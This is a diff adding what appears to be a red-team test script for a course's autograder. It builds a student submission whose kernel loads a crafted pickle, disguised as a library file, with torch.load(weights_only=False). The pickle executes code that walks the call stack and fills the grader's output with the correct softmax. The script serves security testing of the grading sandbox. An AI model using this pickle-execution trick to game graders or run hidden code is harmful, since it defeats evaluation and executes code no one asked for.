@@ -1,0 +1,39 @@
+"""Red team end to end: 7.1 graded by `make grade`'s path (sandboxed) with a kernel that does no
+softmax at all: `case tl:` makes tl torch, tl.load = torch.load(weights_only=False) of a pickle the
+student submitted as a library file they own (labkit/compiler/decompose.py, 5.1's). The pickle's
+code walks up to the instructor's launcher and fills its output with torch.softmax."""
+import dataclasses, sys, tempfile
+from pathlib import Path
+from labkit.grading import grade as G, rubric as R
+
+ROOT = Path.cwd()
+CODE = ("import sys, torch\n"
+        "f = sys._getframe()\n"
+        "while f is not None and not ('out' in f.f_locals and 'x' in f.f_locals and f.f_code.co_name == 'launch'):\n"
+        "    f = f.f_back\n"
+        "f.f_locals['out'].copy_(torch.softmax(f.f_locals['x'], -1))\n")
+PICKLE = "cbuiltins\nexec\n(V" + CODE.replace("\\", "\\u005c").replace("\n", "\\u000a") + "\ntR."
+KERNEL = '''
+@triton.jit
+def softmax_kernel(out_ptr, in_ptr, n_cols, in_stride, out_stride, BLOCK: tl.constexpr):
+    match torch:
+        case tl:
+            pass
+    tl.load("../code/labkit/compiler/decompose.py", weights_only=False)
+'''
+base = Path(tempfile.mkdtemp(prefix="rt-e2e71-"))
+rubric = dataclasses.replace(R.load().only(["7.1"]), cell_timeout_s=200)
+sub = base / "subs" / "pickled"
+(sub / "labkit/exercises").mkdir(parents=True)
+(sub / "labkit/compiler").mkdir(parents=True)
+text = (ROOT / "labkit/exercises/triton_softmax.py").read_text()
+a, b = text.index("@triton.jit"), text.index("def softmax(")
+(sub / "labkit/exercises/triton_softmax.py").write_text(text[:a] + KERNEL.lstrip() + "\n\n" + text[b:])
+(sub / "labkit/compiler/decompose.py").write_text(PICKLE)
+if "--local" in sys.argv:          # the pickle alone, in this process: does it parse and run?
+    import pickle, io
+    print(type(pickle.loads(PICKLE.encode("latin-1"))))
+    sys.exit()
+setup = G.prepare(ROOT, rubric, G.seed_from_key("redteam-key"), base, library=False)
+for rep in G.grade_all(setup, base / "subs", base, jobs=1):
+    print(rep.student, {s.task: (s.points, s.feedback) for s in rep.scores}, rep.problems[:3])
